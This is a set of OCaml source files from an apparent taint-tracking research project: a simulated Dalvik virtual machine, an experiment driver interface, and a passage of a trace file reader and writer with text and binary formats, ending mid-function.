