(** The Dalvik-style virtual machine.

    Interprets {!Bytecode} methods by executing each bytecode's native
    translation ({!Translate}) on the simulated CPU — so every
    virtual-register read/write, argument copy, fetch and field access is
    a real load or store in the instruction-event stream, while branch
    decisions and method dispatch are resolved by the interpreter.

    Frames live in the frame region ([rFP]-relative 4-byte slots) and
    grow downward; method code is materialised in simulated code memory so
    instruction fetches read real bytes; statics live in a dedicated
    region; string literals are interned on first use. *)

type t

exception Thrown of int
(** A Dalvik exception object propagating past the entry method. *)

type mode =
  | Interpreter  (** the portable interpreter: fetch + dispatch per bytecode *)
  | Jit
      (** compiled code: translations are passed through
          {!Translate.jit_optimize} — no fetch/dispatch, dead decode work
          eliminated; virtual registers stay in memory (§4.1) *)

val create :
  ?mode:mode ->
  ?natives:(string * Pift_runtime.Env.native) list ->
  ?metrics:Pift_obs.Registry.t ->
  ?flight:Pift_obs.Flight.t ->
  ?profile:Pift_obs.Profile.t ->
  Pift_runtime.Env.t ->
  Program.t ->
  t
(** [natives] defaults to {!Pift_runtime.Api.registry}; [mode] to
    [Interpreter].  With [metrics], the VM counts dispatched bytecodes
    (labelled by execution mode) and translation-fragment cache
    hits/misses as [pift_vm_*].  With [flight], {!run} brackets the
    whole execution in a ["vm-run"] span and stamps a ["vm-uncaught"]
    instant when an exception escapes the entry method.  With [profile],
    {!run} is attributed to a ["vm"] region with every fragment
    execution nested beneath it as ["cpu"], so VM self time is dispatch
    plus translation and ["cpu"] is raw instruction replay. *)

val env : t -> Pift_runtime.Env.t

val run : t -> [ `Ok | `Uncaught of int ]
(** Execute the program's entry method (which must take no arguments). *)

val call : t -> string -> int list -> int
(** [call t name args] invokes a method with the given argument values
    (deposited directly in the frame, as a runtime would when starting a
    component) and returns the value left in the return slot.  Raises
    {!Thrown} on an uncaught exception, [Failure] on an unknown method. *)

val bytecodes_executed : t -> int

val read_vreg : t -> fp:int -> int -> int
(** Direct frame-slot read (inspection). *)

val entry_frame_base : t -> string -> int
(** Frame pointer a {!call} of the named method will use (for computing
    argument-slot addresses ahead of a run).  Raises [Failure] on an
    unknown method. *)

val static_slot : t -> string -> int
(** Address of a static field, resolving (allocating) it if needed. *)
