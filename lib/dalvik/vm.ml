module Cpu = Pift_machine.Cpu
module Memory = Pift_machine.Memory
module Layout = Pift_machine.Layout
module Asm = Pift_arm.Asm
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Env = Pift_runtime.Env
module Heap = Pift_runtime.Heap
module Jstring = Pift_runtime.Jstring
module Jarray = Pift_runtime.Jarray
module B = Bytecode

exception Thrown of int

type mode = Interpreter | Jit

module Counter = Pift_obs.Metric.Counter

type meters = {
  m_bytecodes : Counter.t;  (* labelled by dispatch mode *)
  m_frag_hits : Counter.t;
  m_frag_misses : Counter.t;
}

let mode_label = function Interpreter -> "interpreter" | Jit -> "jit"

let meters_of ~mode registry =
  let bytecodes =
    Pift_obs.Registry.counter_family registry
      ~help:"bytecodes dispatched, by execution mode" ~label:"mode"
      "pift_vm_bytecodes_total"
  in
  let c help name = Pift_obs.Registry.counter registry ~help name in
  {
    m_bytecodes = bytecodes (mode_label mode);
    m_frag_hits =
      c "translation-fragment cache hits" "pift_vm_frag_cache_hits_total";
    m_frag_misses =
      c "fragments translated on a cache miss"
        "pift_vm_frag_cache_misses_total";
  }

type t = {
  mode : mode;
  env : Env.t;
  program : Program.t;
  natives : (string, Env.native) Hashtbl.t;
  statics : (string, int) Hashtbl.t;
  mutable static_next : int;
  literals : (string, int) Hashtbl.t;
  mutable code_next : int;
  frag_cache : (string * int * int, Asm.fragment) Hashtbl.t;
  mutable bytecodes : int;
  meters : meters option;
  flight : Pift_obs.Flight.t option;
  profile : Pift_obs.Profile.t option;
}

let code_base = 0x1000_0000
let entry_fp = 0x70f0_0000
let statics_base = Layout.scratch_base + 0x10000

let create ?(mode = Interpreter) ?(natives = Pift_runtime.Api.registry)
    ?metrics ?flight ?profile env program =
  let tbl = Hashtbl.create 32 in
  List.iter (fun (name, fn) -> Hashtbl.replace tbl name fn) natives;
  Cpu.set env.Env.cpu Reg.SP Layout.stack_base;
  {
    mode;
    env;
    program;
    natives = tbl;
    statics = Hashtbl.create 8;
    static_next = statics_base;
    literals = Hashtbl.create 8;
    code_next = code_base;
    frag_cache = Hashtbl.create 64;
    bytecodes = 0;
    meters = Option.map (meters_of ~mode) metrics;
    flight;
    profile;
  }

let env t = t.env
let bytecodes_executed t = t.bytecodes
let mem t = Cpu.memory t.env.Env.cpu

let read_vreg t ~fp v = Memory.read_u32 (mem t) (fp + (4 * v))
let write_vreg t ~fp v value = Memory.write_u32 (mem t) (fp + (4 * v)) value

(* Lay the method's opcodes out in code memory so fetch loads read real
   bytes.  One bytecode occupies one 4-byte code unit. *)
let load_method t (m : Method.t) =
  if m.Method.code_addr = 0 then begin
    m.Method.code_addr <- t.code_next;
    t.code_next <- t.code_next + (4 * (Array.length m.Method.code + 1));
    Array.iteri
      (fun i bc ->
        Memory.write_u16 (mem t)
          (m.Method.code_addr + (4 * i))
          (Bytecode.opcode bc))
      m.Method.code
  end

let static_addr t name =
  match Hashtbl.find_opt t.statics name with
  | Some a -> a
  | None ->
      let a = t.static_next in
      t.static_next <- a + 4;
      Hashtbl.add t.statics name a;
      a

let literal t s =
  match Hashtbl.find_opt t.literals s with
  | Some r -> r
  | None ->
      let r = Jstring.alloc t.env.Env.heap s in
      Hashtbl.add t.literals s r;
      r

let cached_fragment t (m : Method.t) ~pc ~key resolved =
  let cache_key = (m.Method.name, pc, key) in
  match Hashtbl.find_opt t.frag_cache cache_key with
  | Some f ->
      (match t.meters with
      | None -> ()
      | Some ms -> Counter.incr ms.m_frag_hits);
      f
  | None ->
      (match t.meters with
      | None -> ()
      | Some ms -> Counter.incr ms.m_frag_misses);
      let f = Translate.fragment resolved in
      let f =
        match t.mode with
        | Interpreter -> f
        | Jit -> Translate.jit_optimize f
      in
      Hashtbl.add t.frag_cache cache_key f;
      f

(* Fragment execution is the simulated-hardware share of a recording;
   attributing it as "cpu" under the VM's "vm" region separates dispatch
   and translation cost from raw instruction replay. *)
let run_frag t frag =
  match t.profile with
  | None -> Cpu.run t.env.Env.cpu frag
  | Some p ->
      Pift_obs.Profile.enter p "cpu";
      Cpu.run t.env.Env.cpu frag;
      Pift_obs.Profile.leave p

(* Field resolution through the receiver's runtime class (quickening). *)
let field_offset t ~fp obj_vreg field =
  let obj = read_vreg t ~fp obj_vreg in
  let cls_id = Memory.read_u32 (mem t) obj in
  match Heap.class_name_of_id cls_id with
  | None ->
      failwith
        (Printf.sprintf "Vm: object 0x%x has unknown class id %d" obj cls_id)
  | Some class_name ->
      4 + (4 * Program.field_index t.program ~class_name ~field)

let test_holds test a b =
  let s v = if v land 0x8000_0000 <> 0 then v - 0x1_0000_0000 else v in
  match test with
  | B.Eq -> a = b
  | B.Ne -> a <> b
  | B.Lt -> s a < s b
  | B.Ge -> s a >= s b
  | B.Gt -> s a > s b
  | B.Le -> s a <= s b

let array_kind_of_class cls =
  if String.equal cls "char[]" then Jarray.Chars
  else if String.equal cls "byte[]" then Jarray.Bytes
  else Jarray.Words

(* Assembled eagerly: a toplevel [lazy] forced from two domains at once
   can raise [CamlinternalLazy.Undefined], and VMs run on worker domains
   during parallel sweeps.  The fragment is three instructions — paying
   for it at module init is free. *)
let restore_frag =
  let a = Asm.create () in
  Asm.emit a (Insn.Ldm (Reg.SP, [ Reg.rpc; Reg.rfp; Reg.rinst ]));
  Asm.ret a;
  Asm.assemble a

let max_call_depth = 512

let rec exec_method t (m : Method.t) ~fp ~depth =
  if depth > max_call_depth then failwith "Vm: call depth exceeded";
  load_method t m;
  let cpu = t.env.Env.cpu in
  let pc = ref 0 in
  let running = ref true in
  while !running do
    let cur = !pc in
    if cur < 0 || cur >= Array.length m.Method.code then
      failwith (Printf.sprintf "Vm(%s): pc %d out of range" m.Method.name cur);
    (* The interpreter's state for this bytecode.  rSELF and rIBASE are
       callee-saved across native calls on real hardware; intrinsics here
       clobber them freely, so model the restore by re-seeding. *)
    Cpu.set cpu Reg.rpc (m.Method.code_addr + (4 * cur));
    Cpu.set cpu Reg.rfp fp;
    Cpu.set cpu Reg.R6 (Pift_runtime.Tcb.base ~pid:(Cpu.pid cpu));
    Cpu.set cpu Reg.ribase 0x2000_0000;
    t.bytecodes <- t.bytecodes + 1;
    (match t.meters with
    | None -> ()
    | Some ms -> Counter.incr ms.m_bytecodes);
    let bc = m.Method.code.(cur) in
    try
      match bc with
      | B.Goto l ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          pc := l
      | B.If_test (test, va, vb, l) ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          let a = read_vreg t ~fp va and b = read_vreg t ~fp vb in
          pc := (if test_holds test a b then l else cur + 1)
      | B.If_testz (test, va, l) ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          let a = read_vreg t ~fp va in
          pc := (if test_holds test a 0 then l else cur + 1)
      | B.Packed_switch (va, table, default) ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          let v = read_vreg t ~fp va in
          pc := (match List.assoc_opt v table with Some l -> l | None -> default)
      | B.Return_void | B.Return _ | B.Return_wide _ | B.Return_object _ ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          running := false
      | B.Throw v ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          raise (Thrown (read_vreg t ~fp v))
      | B.Invoke (_, name, args) | B.Invoke_range (_, name, args) ->
          invoke t m ~fp ~pc:cur ~depth name args;
          pc := cur + 1
      | B.New_instance (dst, cls) ->
          let field_count = Program.field_count t.program ~class_name:cls in
          let obj = Heap.new_object t.env.Env.heap ~class_name:cls ~field_count in
          Cpu.set cpu Reg.R0 obj;
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.New_ref dst));
          pc := cur + 1
      | B.New_array (dst, len_v, cls) ->
          let len = read_vreg t ~fp len_v in
          let arr = Jarray.alloc t.env.Env.heap (array_kind_of_class cls) len in
          Cpu.set cpu Reg.R0 arr;
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.New_ref dst));
          pc := cur + 1
      | B.Const_string (dst, s) ->
          Cpu.set cpu Reg.R0 (literal t s);
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.New_ref dst));
          pc := cur + 1
      | B.Instance_of (dst, obj_v, cls) ->
          let obj = read_vreg t ~fp obj_v in
          let is =
            obj <> 0 && Memory.read_u32 (mem t) obj = Heap.class_id cls
          in
          Cpu.set cpu Reg.R0 (if is then 1 else 0);
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.New_ref dst));
          pc := cur + 1
      | B.Iget (_, obj, f) | B.Iget_object (_, obj, f) | B.Iget_wide (_, obj, f)
      | B.Iput (_, obj, f) | B.Iput_object (_, obj, f) ->
          let off = field_offset t ~fp obj f in
          run_frag t
            (cached_fragment t m ~pc:cur ~key:off (Translate.Field (bc, off)));
          pc := cur + 1
      | B.Sget (_, f) | B.Sget_object (_, f) | B.Sput (_, f)
      | B.Sput_object (_, f) ->
          let addr = static_addr t f in
          run_frag t
            (cached_fragment t m ~pc:cur ~key:addr (Translate.Static (bc, addr)));
          pc := cur + 1
      | B.Nop | B.Move _ | B.Move_from16 _ | B.Move_wide _ | B.Move_object _
      | B.Move_object_from16 _ | B.Monitor_enter _ | B.Monitor_exit _
      | B.Move_result _ | B.Move_result_object _ | B.Move_exception _
      | B.Const4 _ | B.Const16 _ | B.Const _ | B.Array_length _ | B.Aget _
      | B.Aget_char _ | B.Aget_byte _ | B.Aget_object _ | B.Aput _
      | B.Aput_char _ | B.Aput_byte _ | B.Aput_object _ | B.Binop _
      | B.Binop_2addr _ | B.Binop_lit8 _ | B.Neg_int _ | B.Int_to_char _
      | B.Int_to_byte _ | B.Int_to_long _ | B.Long_to_int _ | B.Add_long _
      | B.Sub_long _ | B.Mul_long _ | B.Shr_long _ | B.Cmp_long _
      | B.Check_cast _ ->
          run_frag t (cached_fragment t m ~pc:cur ~key:0 (Translate.Plain bc));
          pc := cur + 1
    with Thrown _ as e -> (
      match Method.handler_for m ~pc:cur with
      | Some target -> pc := target
      | None -> raise e)
  done

and invoke t (m : Method.t) ~fp ~pc ~depth name args =
  match Hashtbl.find_opt t.natives name with
  | Some native ->
      run_frag t
        (cached_fragment t m ~pc ~key:0 (Translate.Invoke_native args));
      let values = Array.of_list (List.map (read_vreg t ~fp) args) in
      let addrs = Array.of_list (List.map (fun v -> fp + (4 * v)) args) in
      native t.env ~args:values ~arg_addrs:addrs
  | None -> (
      match Program.find_method t.program name with
      | None -> failwith ("Vm: unknown method " ^ name)
      | Some callee ->
          if List.length args <> callee.Method.ins then
            failwith
              (Printf.sprintf "Vm: %s expects %d args, got %d" name
                 callee.Method.ins (List.length args));
          let callee_fp = fp - Method.frame_bytes callee in
          if callee_fp < Layout.frame_base then failwith "Vm: frame overflow";
          let arg_moves =
            List.mapi
              (fun i src ->
                (src, callee.Method.registers - callee.Method.ins + i))
              args
          in
          run_frag t
            (cached_fragment t m ~pc ~key:0
               (Translate.Invoke_bytecode
                  { arg_moves; callee_registers = callee.Method.registers }));
          let restore () =
            run_frag t restore_frag;
            Cpu.set t.env.Env.cpu Reg.rfp fp
          in
          (try exec_method t callee ~fp:callee_fp ~depth:(depth + 1)
           with e ->
             restore ();
             raise e);
          restore ())

let call t name args =
  match Program.find_method t.program name with
  | None -> failwith ("Vm.call: unknown method " ^ name)
  | Some m ->
      if List.length args <> m.Method.ins then
        failwith "Vm.call: wrong argument count";
      let fp = entry_fp - Method.frame_bytes m in
      List.iteri
        (fun i v -> write_vreg t ~fp (Method.arg_reg m i) v)
        args;
      exec_method t m ~fp ~depth:0;
      Memory.read_u32 (mem t) (Env.retval_addr t.env)

let entry_frame_base t name =
  match Program.find_method t.program name with
  | None -> failwith ("Vm.entry_frame_base: unknown method " ^ name)
  | Some m -> entry_fp - Method.frame_bytes m

let static_slot = static_addr

let run t =
  (match t.flight with
  | None -> ()
  | Some f -> Pift_obs.Flight.begin_ f "vm-run");
  let result =
    Pift_obs.Profile.span t.profile "vm" (fun () ->
        match call t (Program.entry t.program) [] with
        | (_ : int) -> `Ok
        | exception Thrown obj ->
            (match t.flight with
            | None -> ()
            | Some f -> Pift_obs.Flight.instant f "vm-uncaught");
            `Uncaught obj)
  in
  (match t.flight with
  | None -> ()
  | Some f -> Pift_obs.Flight.end_ f "vm-run");
  result
