(** Per-experiment drivers, keyed by the paper's table/figure ids.

    Each experiment regenerates one artefact of the paper's evaluation
    section and prints it in a terminal-friendly form.  [run_all] is what
    the bench harness and [bench_output.txt] are built from. *)

val all : (string * string) list
(** (id, description) pairs, in paper order: [fig2], [table1], [fig10],
    [fig11], [malware], [fig12], [fig13], [fig14], [fig15], [fig16],
    [fig17], [fig18], [fig19], plus the extensions [hw],
    [ablation-storage], [ablation-granularity], [summary]. *)

val run :
  ?backend:Pift_core.Store.backend ->
  ?rings:Pift_obs.Flight.t array ->
  ?on_cell:(int -> int -> unit) ->
  ?jobs:int ->
  string ->
  Format.formatter ->
  unit
(** Raises [Failure] on an unknown id.  [backend] selects the
    taint-store representation for every replay the experiment performs
    (and the hardware model's secondary store); output is identical for
    every exact backend.  [jobs] (default 1) sizes the [Pift_par] domain
    pool behind the grid-sweep experiments (fig11, fig14, fig17, fig18,
    fig19); every experiment's output is identical for every [jobs]
    value and with tracing on or off.  [rings] (one flight-recorder ring
    per worker slot) gives those experiments per-cell spans and counter
    samples; [on_cell] reports fig11 grid progress (see
    {!Accuracy.sweep}). *)

val run_all :
  ?backend:Pift_core.Store.backend ->
  ?rings:Pift_obs.Flight.t array -> ?jobs:int -> Format.formatter -> unit

val lgroot_recording : unit -> Recorded.t
(** The shared LGRoot execution trace (recorded once per process). *)
