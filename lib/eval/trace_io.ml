module Range = Pift_util.Range
module Wire = Pift_util.Wire
module Event = Pift_trace.Event
module Trace = Pift_trace.Trace
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg

let magic = "PIFT-TRACE 1"
let binary_magic = "PIFTBIN1"

type format = Text | Binary

let format_to_string = function Text -> "text" | Binary -> "binary"

let format_of_string = function
  | "text" -> Some Text
  | "binary" -> Some Binary
  | _ -> None

(* Marker kinds are user-controlled strings embedded in a
   space-separated record format.  A kind containing a space used to
   serialize fine and then fail on load — "unrecognised record" for SRC
   (too many fields), a silently truncated kind for SNK (the tail parsed
   as ranges).  Percent-escape the delimiters at write time instead;
   kinds without them round-trip byte-identically, so old traces still
   load. *)
let escape_kind kind =
  let needs_escape = function ' ' | '%' | '\n' | '\r' -> true | _ -> false in
  if String.exists needs_escape kind then begin
    let buf = Buffer.create (String.length kind + 8) in
    String.iter
      (fun c ->
        if needs_escape c then
          Buffer.add_string buf (Printf.sprintf "%%%02X" (Char.code c))
        else Buffer.add_char buf c)
      kind;
    Buffer.contents buf
  end
  else kind

let write_range oc r =
  Printf.fprintf oc " %d %d" (Range.lo r) (Range.length r)

let to_channel (t : Recorded.t) oc =
  Printf.fprintf oc "%s\n" magic;
  Printf.fprintf oc "name %s\n" t.Recorded.name;
  Printf.fprintf oc "pid %d\n" t.Recorded.pid;
  Printf.fprintf oc "bytecodes %d\n" t.Recorded.bytecodes;
  (* Merge events and markers in global-sequence order, markers after the
     event they follow (same order [Recorded.interleave] applies). *)
  let markers = t.Recorded.markers in
  let mi = ref 0 in
  let emit_markers_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      let mseq, marker = markers.(!mi) in
      (match marker with
      | Recorded.Source { kind; range } ->
          Printf.fprintf oc "M %d SRC %s" mseq (escape_kind kind);
          write_range oc range;
          output_char oc '\n'
      | Recorded.Sink { kind; ranges } ->
          Printf.fprintf oc "M %d SNK %s" mseq (escape_kind kind);
          List.iter (write_range oc) ranges;
          output_char oc '\n');
      incr mi
    done
  in
  emit_markers_until 0;
  Trace.iter
    (fun e ->
      (match e.Event.access with
      | Event.Load r ->
          Printf.fprintf oc "L %d %d %d" e.seq e.k e.pid;
          write_range oc r;
          output_char oc '\n'
      | Event.Store r ->
          Printf.fprintf oc "S %d %d %d" e.seq e.k e.pid;
          write_range oc r;
          output_char oc '\n'
      | Event.Other -> Printf.fprintf oc "O %d %d %d\n" e.seq e.k e.pid);
      emit_markers_until e.Event.seq)
    t.Recorded.trace;
  emit_markers_until max_int

(* --- binary format ------------------------------------------------------ *)

(* Record stream after an 8-byte magic and a varint-coded header
   (name length + bytes, pid, bytecodes):

   {v
   <varint payload-length> <payload>
   payload := tag byte, then varint fields
     0 load    dseq dk pid dlo len
     1 store   dseq dk pid dlo len
     2 other   dseq dk pid
     3 source  dseq kind-len kind-bytes dlo len
     4 sink    dseq kind-len kind-bytes nranges (dlo len)*
   v}

   [dseq]/[dk]/[dlo] are zigzag-coded deltas against the previous
   record's seq / k / range start (in stream order — the same
   event/marker interleaving the text writer emits), so consecutive
   events cost 1-byte fields almost everywhere.  Kinds are raw bytes
   behind a length — no escaping.  The length prefix bounds every
   record, so a truncated or corrupt file fails with the record number
   instead of a decode exception from half-way inside the stream. *)

let tag_load = 0
let tag_store = 1
let tag_other = 2
let tag_source = 3
let tag_sink = 4

(* Corrupt binary traces must not be able to make the reader allocate
   or loop without bound: payloads are capped, varints are capped at 9
   bytes (63 value bits).  The varint/zigzag primitives and the chunked
   reader live in [Pift_util.Wire], shared with the service snapshot
   format. *)
let max_record_payload = 1 lsl 24
let add_varint = Wire.add_varint
let unzigzag = Wire.unzigzag
let add_svarint = Wire.add_svarint

let to_channel_binary (t : Recorded.t) oc =
  output_string oc binary_magic;
  let header = Buffer.create 64 in
  add_varint header (String.length t.Recorded.name);
  Buffer.add_string header t.Recorded.name;
  add_varint header t.Recorded.pid;
  add_varint header t.Recorded.bytecodes;
  Buffer.output_buffer oc header;
  let payload = Buffer.create 64 in
  let length_prefix = Buffer.create 8 in
  let prev_seq = ref 0 and prev_k = ref 0 and prev_lo = ref 0 in
  let emit () =
    Buffer.clear length_prefix;
    add_varint length_prefix (Buffer.length payload);
    Buffer.output_buffer oc length_prefix;
    Buffer.output_buffer oc payload;
    Buffer.clear payload
  in
  let add_seq seq =
    add_svarint payload (seq - !prev_seq);
    prev_seq := seq
  in
  let add_range r =
    add_svarint payload (Range.lo r - !prev_lo);
    prev_lo := Range.lo r;
    add_varint payload (Range.length r)
  in
  let add_kind kind =
    add_varint payload (String.length kind);
    Buffer.add_string payload kind
  in
  let put_marker mseq = function
    | Recorded.Source { kind; range } ->
        Buffer.add_char payload (Char.chr tag_source);
        add_seq mseq;
        add_kind kind;
        add_range range;
        emit ()
    | Recorded.Sink { kind; ranges } ->
        Buffer.add_char payload (Char.chr tag_sink);
        add_seq mseq;
        add_kind kind;
        add_varint payload (List.length ranges);
        List.iter add_range ranges;
        emit ()
  in
  let markers = t.Recorded.markers in
  let mi = ref 0 in
  let emit_markers_until seq =
    while !mi < Array.length markers && fst markers.(!mi) <= seq do
      let mseq, marker = markers.(!mi) in
      put_marker mseq marker;
      incr mi
    done
  in
  let put_event (e : Event.t) =
    let put_mem tag r =
      Buffer.add_char payload (Char.chr tag);
      add_seq e.Event.seq;
      add_svarint payload (e.Event.k - !prev_k);
      prev_k := e.Event.k;
      add_varint payload e.Event.pid;
      add_range r;
      emit ()
    in
    match e.Event.access with
    | Event.Load r -> put_mem tag_load r
    | Event.Store r -> put_mem tag_store r
    | Event.Other ->
        Buffer.add_char payload (Char.chr tag_other);
        add_seq e.Event.seq;
        add_svarint payload (e.Event.k - !prev_k);
        prev_k := e.Event.k;
        add_varint payload e.Event.pid;
        emit ()
  in
  emit_markers_until 0;
  Trace.iter
    (fun e ->
      put_event e;
      emit_markers_until e.Event.seq)
    t.Recorded.trace;
  emit_markers_until max_int

let save ?(format = Text) t path =
  let oc = open_out_bin path in
  Fun.protect
    ~finally:(fun () -> close_out oc)
    (fun () ->
      match format with
      | Text -> to_channel t oc
      | Binary -> to_channel_binary t oc)

(* --- parsing ------------------------------------------------------------- *)

let fail_line n msg = failwith (Printf.sprintf "Trace_io: line %d: %s" n msg)

let parse_int n s =
  match int_of_string_opt s with
  | Some v -> v
  | None -> fail_line n ("not an integer: " ^ s)

(* A corrupt length or address must surface as a positioned Trace_io
   error, not escape as a bare [Invalid_argument "Range.of_len"] from
   deep inside the parser. *)
let range_of_len fail lo len =
  try Range.of_len lo len with Invalid_argument msg -> fail msg

(* A synthetic instruction for deserialised memory events: serialisation
   keeps only the access, which is all the PIFT analysis consumes. *)
let synth_load = Insn.Ldr (Insn.Word, Reg.R0, Insn.Offset (Reg.R0, Insn.Imm 0))
let synth_store = Insn.Str (Insn.Word, Reg.R0, Insn.Offset (Reg.R0, Insn.Imm 0))

let is_hex_digit = function
  | '0' .. '9' | 'a' .. 'f' | 'A' .. 'F' -> true
  | _ -> false

let unescape_kind n s =
  if not (String.contains s '%') then s
  else begin
    let len = String.length s in
    let buf = Buffer.create len in
    let i = ref 0 in
    while !i < len do
      if s.[!i] <> '%' then begin
        Buffer.add_char buf s.[!i];
        incr i
      end
      else begin
        if !i + 2 >= len then fail_line n ("truncated kind escape in: " ^ s);
        (* Both chars must be hex digits — [int_of_string_opt "0x.."]
           alone accepted junk like "%1_" because underscores (and a
           second "0x") are legal inside OCaml int literals. *)
        let c1 = s.[!i + 1] and c2 = s.[!i + 2] in
        if not (is_hex_digit c1 && is_hex_digit c2) then
          fail_line n ("bad kind escape in: " ^ s);
        Buffer.add_char buf
          (Char.chr (int_of_string (Printf.sprintf "0x%c%c" c1 c2)));
        i := !i + 3
      end
    done;
    Buffer.contents buf
  end

let rec parse_ranges n = function
  | [] -> []
  | [ _ ] -> fail_line n "dangling range component"
  | lo :: len :: rest ->
      range_of_len (fail_line n) (parse_int n lo) (parse_int n len)
      :: parse_ranges n rest

type header = { h_name : string; h_pid : int; h_bytecodes : int }

(* One record line to one stream item — shared by the whole-trace loader
   and the streaming reader, so both reject malformed input with the
   same positioned error. *)
let text_item n line =
  match String.split_on_char ' ' line with
  | [ "L"; seq; k; epid; lo; len ] ->
      Recorded.Item_event
        {
          Event.seq = parse_int n seq;
          k = parse_int n k;
          pid = parse_int n epid;
          insn = synth_load;
          access =
            Event.Load
              (range_of_len (fail_line n) (parse_int n lo) (parse_int n len));
        }
  | [ "S"; seq; k; epid; lo; len ] ->
      Recorded.Item_event
        {
          Event.seq = parse_int n seq;
          k = parse_int n k;
          pid = parse_int n epid;
          insn = synth_store;
          access =
            Event.Store
              (range_of_len (fail_line n) (parse_int n lo) (parse_int n len));
        }
  | [ "O"; seq; k; epid ] ->
      Recorded.Item_event
        {
          Event.seq = parse_int n seq;
          k = parse_int n k;
          pid = parse_int n epid;
          insn = Insn.Nop;
          access = Event.Other;
        }
  | [ "M"; seq; "SRC"; kind; lo; len ] ->
      Recorded.Item_marker
        ( parse_int n seq,
          Recorded.Source
            {
              kind = unescape_kind n kind;
              range =
                range_of_len (fail_line n) (parse_int n lo) (parse_int n len);
            } )
  | "M" :: seq :: "SNK" :: kind :: rest ->
      Recorded.Item_marker
        ( parse_int n seq,
          Recorded.Sink
            { kind = unescape_kind n kind; ranges = parse_ranges n rest } )
  | _ -> fail_line n ("unrecognised record: " ^ line)

(* Streaming text front: parse magic + header eagerly, then one item per
   pull.  Nothing is accumulated — memory is one line. *)
let text_open ic =
  let line_no = ref 0 in
  let next () =
    incr line_no;
    input_line ic
  in
  (match next () with
  | l when String.equal l magic -> ()
  | _ -> fail_line !line_no "bad magic"
  | exception End_of_file -> fail_line 1 "empty file");
  let header key =
    match String.split_on_char ' ' (next ()) with
    | k :: rest when String.equal k key -> String.concat " " rest
    | _ -> fail_line !line_no ("expected header " ^ key)
  in
  let h_name = header "name" in
  let h_pid = parse_int !line_no (header "pid") in
  let h_bytecodes = parse_int !line_no (header "bytecodes") in
  let rec next_item () =
    match next () with
    | exception End_of_file -> None
    | "" -> next_item ()
    | line -> Some (text_item !line_no line)
  in
  ({ h_name; h_pid; h_bytecodes }, next_item)

let of_channel ic =
  let h, next = text_open ic in
  let trace = Trace.create () in
  let markers = ref [] in
  let rec drain () =
    match next () with
    | None -> ()
    | Some (Recorded.Item_event e) ->
        Trace.add trace e;
        drain ()
    | Some (Recorded.Item_marker (seq, m)) ->
        markers := (seq, m) :: !markers;
        drain ()
  in
  drain ();
  {
    Recorded.name = h.h_name;
    trace;
    markers = Array.of_list (List.rev !markers);
    pid = h.h_pid;
    bytecodes = h.h_bytecodes;
  }

(* --- binary parsing ------------------------------------------------------ *)

let fail_record n msg = failwith (Printf.sprintf "Trace_io: record %d: %s" n msg)

(* The chunked channel reader is [Wire.Reader] — shared with the
   snapshot format, which has the same length-prefixed record shape. *)
type rd = Wire.Reader.t

let rd_create = Wire.Reader.create
let rd_has = Wire.Reader.has
let rd_varint = Wire.Reader.varint

(* Pull-side decoder state: the chunk reader plus the record counter and
   the delta baselines.  The decode helpers are top-level functions over
   this record — no per-record closure allocation, same as the old
   hoisted-closure loop, but usable one record at a time. *)
type bin_reader = {
  br_rd : rd;
  mutable br_record : int;
  mutable br_prev_seq : int;
  mutable br_prev_k : int;
  mutable br_prev_lo : int;
  mutable br_pos : int;  (* next payload byte *)
  mutable br_limit : int;  (* end of current payload *)
}

let br_fail br msg = fail_record br.br_record msg

let br_varint br =
  let rec go shift acc =
    if br.br_pos >= br.br_limit then br_fail br "truncated record payload"
    else begin
      let b = Char.code (Bytes.unsafe_get br.br_rd.Wire.Reader.buf br.br_pos) in
      br.br_pos <- br.br_pos + 1;
      if shift > 56 && b > 0x7f then br_fail br "varint overflow"
      else begin
        let acc = acc lor ((b land 0x7f) lsl shift) in
        if b < 0x80 then acc else go (shift + 7) acc
      end
    end
  in
  go 0 0

let br_svarint br = unzigzag (br_varint br)

let br_seq br =
  br.br_prev_seq <- br.br_prev_seq + br_svarint br;
  br.br_prev_seq

let br_range br =
  br.br_prev_lo <- br.br_prev_lo + br_svarint br;
  range_of_len (br_fail br) br.br_prev_lo (br_varint br)

let br_kind br =
  let klen = br_varint br in
  if klen < 0 || br.br_pos + klen > br.br_limit then br_fail br "truncated kind";
  let s = Bytes.sub_string br.br_rd.Wire.Reader.buf br.br_pos klen in
  br.br_pos <- br.br_pos + klen;
  s

(* Magic + header, eagerly; the returned reader is positioned at the
   first record. *)
let bin_open ic =
  let mlen = String.length binary_magic in
  (match really_input_string ic mlen with
  | s when String.equal s binary_magic -> ()
  | _ -> fail_record 0 "bad magic"
  | exception End_of_file -> fail_record 0 "bad magic (truncated)");
  let rd = rd_create ic in
  let fail0 = fail_record 0 in
  let name_len = rd_varint fail0 rd in
  if name_len < 0 || name_len > max_record_payload then
    fail0 "implausible name length";
  if not (rd_has rd name_len) then fail0 "truncated header";
  let h_name = Bytes.sub_string rd.Wire.Reader.buf rd.Wire.Reader.lo name_len in
  rd.Wire.Reader.lo <- rd.Wire.Reader.lo + name_len;
  let h_pid = rd_varint fail0 rd in
  let h_bytecodes = rd_varint fail0 rd in
  ( { h_name; h_pid; h_bytecodes },
    {
      br_rd = rd;
      br_record = 0;
      br_prev_seq = 0;
      br_prev_k = 0;
      br_prev_lo = 0;
      br_pos = 0;
      br_limit = 0;
    } )

(* One record per pull; [None] only on EOF exactly at a record boundary,
   anything else fails with the record number. *)
let bin_next br =
  let rd = br.br_rd in
  match rd_varint ~first_eof_ok:true (fail_record (br.br_record + 1)) rd with
  | exception End_of_file -> None
  | len ->
      br.br_record <- br.br_record + 1;
      let fail msg = br_fail br msg in
      if len <= 0 then fail "empty record";
      if len > max_record_payload then fail "implausible record length";
